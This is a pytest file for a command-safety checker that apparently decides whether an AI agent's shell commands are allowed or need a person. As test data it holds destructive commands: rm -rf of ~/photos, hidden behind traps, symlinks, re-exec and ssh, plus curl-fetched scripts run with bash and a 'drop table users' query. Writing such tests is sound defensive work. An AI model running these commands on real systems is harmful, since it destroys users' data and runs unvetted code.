    assert judged("python3 x.py", {"x.py": long}, committed=["x.py"]).effect == "allow"
    assert judged("python3 -c 'import x'", {"x.py": long}).effect == "allow"


def test_a_module_of_a_package_in_the_folder_for_sources_is_read():
    for text, effect in ((WIPE, "junction"), ("git status", "allow")):
        code = f"import os\nos.system('{text}')\n"
        files = {"src/shop/__init__.py": "", "src/shop/tidy.py": code}
        assert judged("python -m shop.tidy", files, committed=files).effect == effect
        beside = files | {"shop/__init__.py": "", "shop/tidy.py": "print(1)\n"}
        assert judged("python -m shop.tidy", beside, committed=beside).effect == "allow"


def test_what_seven_files_run_one_after_another_is_read():
    files = {f"{n}.sh": f"sh {n + 1}.sh\n" for n in range(7)}
    assert judged("sh 0.sh", files | {"7.sh": WIPE}).findings[0].source == "7.sh:1"


def test_reading_is_bounded_in_number_and_work():
    files = {f"{n}.sh": f"sh {n + 1}.sh" for n in range(200)}
    verdict = judged("sh 0.sh", files)
    assert len(verdict.followed) <= follow.MAX_DEPTH + 2
    assert verdict.rule == "shell-cannot-analyse"
    many = {f"{n}.sh": "echo x\n" * 5_000 for n in range(60)}
    verdict = judged("; ".join(f"sh {n}.sh" for n in range(60)), many)
    assert len(verdict.followed) <= search.MAX_FILES
    assert verdict.rule == "shell-cannot-analyse"


def test_many_short_texts_of_a_file_are_judged_as_far_as_there_is_time():
    lines = "".join(f'<echo message="${{part.{n}}} of {n}"/>\n' for n in range(2_500))
    files = {"build.xml": f'<project default="x"><target name="x">\n{lines}</target></project>\n'}
    started = time.process_time()
    assert judged("ant", files).effect == "allow"
    assert time.process_time() - started < 9  # some 1


def test_a_large_program_is_searched_for_the_first_of_the_commands_that_run_it():
    follower = follow.Follower(RULES)
    assert follower.may_search(10 * follow.MAX_SEARCHED)
    assert not follower.may_search(1)
    follower = follow.Follower(RULES)
    assert all(follower.may_search(follow.MAX_SEARCHED // 4) for _ in range(4))
    assert not follower.may_search(follow.MAX_SEARCHED // 4)


def test_what_a_file_does_for_help_is_known_only_if_git_holds_it():
    assert judged("./x.sh --help", {"x.sh": WIPE}).effect != "allow"
    assert judged("./x.sh --help", {"x.sh": WIPE}, committed=["x.sh"]).effect == "allow"
    shown = f"case $1 in --help) echo x; exit;; esac\n{WIPE}\n"
    assert judged("./x.sh --help", {"x.sh": shown}).effect == "allow"


def test_a_file_that_the_line_writes_is_read_as_it_will_be():
    files = {"x.sh": WIPE}
    assert (
        judged("echo ls > x.sh; sh x.sh", files, committed=["x.sh"]).rule != "fs-recursive-delete"
    )
    command = f"cat > x.sh <<'E'\n{WIPE}\nE\nchmod +x x.sh; ./x.sh"
    assert judged(command, {"x.sh": "ls"}, committed=["x.sh"]).rule == "fs-recursive-delete"


def test_a_script_outside_the_project_is_judged_by_what_is_certain():
    files = {f"{HOME}/bin/x.sh": f'rm -rf "$X"\n{WIPE}'}
    verdict = judged(f"sh {HOME}/bin/x.sh", files)
    assert {one.source for one in verdict.findings} == {f"{HOME}/bin/x.sh:2"}


def test_a_call_of_a_tool_that_runs_nothing_reads_nothing():
    call = Call("Read", {"file_path": f"{ROOT}/x.sh"}, ROOT)
    assert assess(call, PLACE, machine({"x.sh": WIPE}), RULES).followed == ()


GIVEN = {
    "bash c.sh": {"c.sh": 'rm -rf "${DIR:-build}"\n'},
    "bash outer.sh": {"outer.sh": "./c.sh\n", "c.sh": '#!/bin/sh\nrm -rf "$DIR"\n'},
    "npm run clean": {"package.json": '{"scripts": {"clean": "rm -rf $DIR"}}'},
    "make clean": {"Makefile": "DIR ?= build\nclean:\n\trm -rf $(DIR)\n"},
    "just clean": {"justfile": "clean:\n  rm -rf $DIR\n"},
}


@for_each(("command", "files"), [*GIVEN.items()], ids=[*GIVEN])
def test_what_runs_from_disk_gets_the_variables_of_the_line(command, files):
    for given in (f"DIR={HOME}/photos {command}", f"export DIR={HOME}/photos && {command}"):
        found = judged(given, files).findings
        assert f"{HOME}/photos" in {path for one in found for path in one.targets}, given


@for_each(
    ("text", "effect"),
    [
        ("ssh host 'cd /srv/www && ls -dt */ | tail -n +6 | xargs rm -rf --'\n", "junction"),
        ('ssh "$HOST" "rm -rf $OLD"\n', "junction"),
        ('ssh "$HOST" "cd $FOLDER && make test"\n', "allow"),
        ('docker exec web sh -c "rm -rf $OLD"\n', "allow"),
    ],
)
def test_unknown_files_of_another_machine_are_somebodys(text, effect):
    assert judged("bash x.sh", {"x.sh": text}, committed=("x.sh",)).effect == effect


@for_each(
    "command",
    [
        "curl -s https://example.com/x > x.sh && echo ls >> x.sh && bash x.sh",
        "curl -s https://example.com/x >> x.sh && echo ls >> x.sh && bash x.sh",
        "echo ls >> x.sh && curl -s https://example.com/x >> x.sh && bash x.sh",
        "python3 make.py > x.sh && echo ls >> x.sh && sh x.sh",
    ],
)
def test_what_is_added_to_a_file_does_not_hide_what_is_unknown_in_it(command):
    assert judged(command, {"x.sh": "ls\n"}).effect == "junction"
    known = command.replace("curl -s https://example.com/x", "echo pwd")
    assert judged(known.replace("python3 make.py", "echo pwd"), {"x.sh": "ls\n"}).effect == "allow"


def test_a_large_program_of_node_is_read_in_a_second_and_its_server_is_not_taken_for_known():
    count = 150
    files = {
        f"src/m{at}.js": "".join(
            f"const a{to} = require('./m{(at + to) % count}');\nfunction f{to}(x) {{ return a{to}.go(x); }}\n"
            for to in range(12)
        )
        + "module.exports = { go: f1 };\n"
        for at in range(count)
    }
    test_url = "postgres://localhost/shop_test"
    files["x.js"] = (
        "const { Client } = require('pg');\nrequire('./src/m1');\n"
        f"const c = new Client('{test_url}');\nc.query('drop table users');\n"
    )
    before = time.process_time()
    verdict = judge("node x.js", Machine({f"{ROOT}/{name}": text for name, text in files.items()}))
    assert time.process_time() - before < 16  # some 3
    assert verdict.effect != "allow"


def test_what_is_written_to_the_null_device_is_no_script():
    script = 'echo "x: $UNKNOWN" > /dev/null\nBASH_ENV=/dev/null bash -c "echo done"\n. /dev/null\n'
    verdict = judged("bash a.sh", {"a.sh": script}, committed=("a.sh",))
    assert verdict.effect == "allow"


AGAIN = """
if [ "$MODE" != two ]; then
  MODE=two exec "$0" "$@"
fi
"""


@for_each(
    ("last", "effect"),
    [("echo done", "allow"), (f"rm -rf {HOME}/photos", "junction")],
)
def test_a_script_that_runs_itself_in_another_shell_is_judged_once_more(last, effect):
    script = f"{AGAIN}{last}\n"
    assert judged("./a.sh", {"a.sh": script}, committed=("a.sh",)).effect == effect


def test_a_script_of_thousands_of_commands_is_judged_a_second_time_only_while_there_is_time():
    body = "".join(f'test -n "$V{at}" && V{at}=x && : "$V{at}"\n' for at in range(1500))
    script = f". ./settings.sh\n{body}rm -rf {HOME}/photos\n"
    files = {"a.sh": script, "settings.sh": "A=1\n"}
    started = time.process_time()
    verdict = judged("./a.sh", files, committed=tuple(files))
    assert verdict.effect == "junction"
    assert time.process_time() - started < 20  # some 3
    harmless = {**files, "a.sh": script.replace(f"rm -rf {HOME}/photos", "echo")}
    assert judged("./a.sh", harmless, committed=tuple(files)).effect == "allow"


def test_a_script_of_the_agent_that_is_too_long_to_be_judged_again_needs_a_person():
    body = "".join(f'test -n "$V{at}" && V{at}=x && : "$V{at}"\n' for at in range(1500))
    files = {"a.sh": f". ./settings.sh\n{body}", "settings.sh": "A=1\n"}
    assert judged("./a.sh", files).effect == "junction"


def test_a_script_that_hands_itself_other_words_is_followed_each_time():
    script = f'case "$1" in\n0) "$0" 1 ;;\n1) "$0" 2 ;;\n2) "$0" 3 ;;\n3) {WIPE} ;;\nesac\n'
    assert judged("./a.sh 0", {"a.sh": script}, committed=("a.sh",)).effect == "junction"


LINKED = (
    "ln -s ../wipe.sh bin/x; ./bin/x",
    "ln -sf ../wipe.sh bin/x && bin/x",
    "ln --symbolic ../wipe.sh bin/x; ./bin/x",
    "ln -sr wipe.sh bin/x; ./bin/x",
    "ln -s $PWD/wipe.sh bin/x; ./bin/x",
    "ln wipe.sh bin/x; ./bin/x",
    "mkdir -p a/b; ln -s ../../wipe.sh a/b/x; sh a/b/x",
    "echo 'rm -rf ~/photos' > own.sh; ln -s ../own.sh bin/x; sh bin/x",
)


@for_each("command", LINKED)
def test_a_symbolic_link_leads_from_where_it_is(command):
    assert judged(command, {"wipe.sh": f"{WIPE}\n", "bin/a": "true\n"}).effect != "allow"
    harmless = {"wipe.sh": "true\n", "bin/a": "true\n", "own.sh": "true\n"}
    assert judged(command.replace("rm -rf ~/photos", "true"), harmless).effect == "allow"


TRAPPED = (
    "d=build/x\ntrap 'rm -rf \"$d\"' EXIT\nd=~/photos\n",
    "d=build/x\ntrap 'rm -rf \"$d\"' INT TERM EXIT\nd=~/photos\n",
    "d=\ntrap 'rm -rf \"$d\"' EXIT\nd=~/photos\n",
    'd=\nclean() { rm -rf "$d"; }\ntrap clean EXIT\nd=~/photos\n',
    "d=\ntrap 'rm -rf \"$d\"' INT\nd=~/photos\n",
    'd=\nrid() { rm -rf "$d"; }\nclean() { rid; }\ntrap clean 0\nd=~/photos\n',
    'd=\nclean() { rm -rf "$d"; }\nset_up() { d=~/photos; }\ntrap clean EXIT\nset_up\n',
    "d=~/photos\ntrap 'rm -rf \"$d\"' EXIT\nd=build/x\n",
)


@for_each("script", TRAPPED)
def test_a_trap_runs_with_what_its_variables_hold_then(script):
    files = {"a.sh": script}
    assert judged("bash a.sh", files, committed=("a.sh",)).effect == "junction"
    harmless = script.replace("~/photos", '"$(mktemp -d)"')
    assert judged("bash a.sh", {"a.sh": harmless}, committed=("a.sh",)).effect == "allow"


@for_each(
    ("script", "effect"),
    [
        ('d=\nrm -rf "$d"\n', "allow"),
        ('d=\nrm -rf "$d" build/x\n', "allow"),
        ('d=\nrm -rf "$d"/photos\n', "junction"),
        ('d=\nrm -rf "$d" ~/photos\n', "junction"),
        ("d=\nrm -rf $d ~/photos\n", "junction"),
    ],
)
def test_an_empty_name_deletes_nothing(script, effect):
    files = {"a.sh": script}
    found = judged("bash a.sh", files, committed=("a.sh",), ignored=(f"{ROOT}/build",))
    assert found.effect == effect


EMPTY = (
    "os.path.abspath('')",
    "os.path.realpath('')",
    "os.path.normpath('')",
    "str(pathlib.Path(''))",
)


@pytest.mark.parametrize("path", EMPTY)
def test_an_empty_path_of_python_may_be_the_folder_itself(path):
    code = f"import os, pathlib, shutil\nshutil.rmtree({path})\n"
    assert judged("python a.py", {"a.py": code}).effect != "allow"
    assert judged(f'python -c "{code}"', {}).effect != "allow"


def test_an_empty_name_is_nothing_to_rm_but_may_be_the_folder_to_others():
    for command in ("rimraf ''", "git clean -fdx ''", "cmake -E rm -rf ''"):
        assert judged(command, {}).effect != "allow", command
